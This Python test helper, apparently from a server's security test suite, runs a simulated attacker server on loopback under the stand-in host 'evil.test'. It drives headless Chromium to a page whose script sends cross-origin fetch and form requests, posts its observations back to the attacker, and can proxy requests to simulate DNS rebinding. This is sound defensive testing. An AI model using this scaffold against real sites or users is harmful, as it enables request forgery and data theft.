"""Open a page that attacks a server in headless Chromium, and run the attacker's own server.

The page's script makes requests with `fetch` and forms, and posts its observations to the attacker's server.
"""

import json
import queue
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from interop.peers import chromium_program

PATIENCE_S = 60.0
EVIL = "evil.test"
"""A host name that the browser resolves to 127.0.0.1."""

_PAGE = """<!doctype html><title>attack</title><iframe name=sink></iframe><script>
const seen = {};
async function attempt(name, url, options) {
  try {
    const response = await fetch(url, options);
    seen[name] = response.type === "opaque" ? "sent" : response.status + " " + await response.text();
  } catch (error) { seen[name] = "" + error; }
}
async function submit(name, url) {
  const form = document.createElement("form");
  form.method = "post"; form.action = url; form.target = "sink";
  document.body.append(form);
  const loaded = new Promise(done => { document.querySelector("iframe").onload = done; });
  form.submit(); await loaded; seen[name] = "sent";
}
async function attack() {
  %s
  await fetch("/seen", {method: "POST", body: JSON.stringify(seen)});
}
window.onload = attack;
</script>"""


class Attacker:
    """The attacker's server: it serves the page, and collects the observations of the page's script.

    If `target` is set, the server forwards all other requests to it, byte for byte. This simulates DNS rebinding: the
    page's own origin then is another server.
    """

    def __init__(self, target: str = "") -> None:
        self.script = ""
        self.seen: queue.SimpleQueue[dict[str, str]] = queue.SimpleQueue()
        self._target = target
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        try:
            self._answer(client)
        except OSError:
            pass  # the browser has closed the connection

    def _answer(self, client: socket.socket) -> None:
        with client:
            head = b""
            while b"\r\n\r\n" not in head:
                data = client.recv(65536)
                if not data:
                    return
                head += data
            method, path, _ = head.split(b" ", 2)
            if path == b"/":
                body = (_PAGE % self.script).encode()
                client.sendall(_answer(b"text/html", body))
            elif path == b"/seen" and method == b"POST":
                length = int(head.lower().partition(b"content-length: ")[2].split()[0])
                body = head.partition(b"\r\n\r\n")[2]
                while len(body) < length:
                    body += client.recv(65536)
                client.sendall(_answer(b"text/plain", b""))
                self.seen.put(json.loads(body))
            elif self._target:
                self._pass_on(client, head)
            else:
                client.sendall(_answer(b"text/plain", b""))

    def _pass_on(self, client: socket.socket, head: bytes) -> None:
        host, _, port = self._target.rpartition(":")
        with socket.create_connection((host, int(port))) as server:
            # One request per connection, so that the next request arrives at this server.
            server.sendall(head.replace(b"Connection: keep-alive", b"Connection: close"))
            while data := server.recv(65536):
                client.sendall(data)

    def close(self) -> None:
        """Stop accepting clients."""
        self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()


def _answer(content_type: bytes, body: bytes) -> bytes:
    head = b"HTTP/1.1 200 OK\r\nContent-Type: %b\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
    return head % (content_type, len(body)) + body


@contextmanager
def attacker(target: str = "") -> Iterator[Attacker]:
    """Run an attacker's server on a free loopback port."""
    running = Attacker(target)
    try:
        yield running
    finally:
        running.close()


def visit(attacker: Attacker, script: str, profile: Path, host: str = EVIL) -> dict[str, str]:
    """Open the attacker's page by a host name in a browser with a new profile; return the script's observations."""
    attacker.script = script
    argv: list[str | Path] = [
        chromium_program(),
        "--headless=new",
        "--no-sandbox",  # the sandbox does not work for root
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--disable-background-networking",
        "--no-first-run",
        f"--user-data-dir={profile}",
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
        f"http://{host}:{attacker.port}/",
    ]
    log = profile.with_name(f"{profile.name}.log")
    with log.open("wb") as output:
        browser = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=output, stderr=output)
    try:
        return attacker.seen.get(timeout=PATIENCE_S)
    except queue.Empty:
        said = log.read_text(errors="replace")[-2000:]
        pytest.fail(f"the page did not report within {PATIENCE_S:g} s; the browser said:\n{said}")
    finally:
        browser.kill()
        browser.wait()
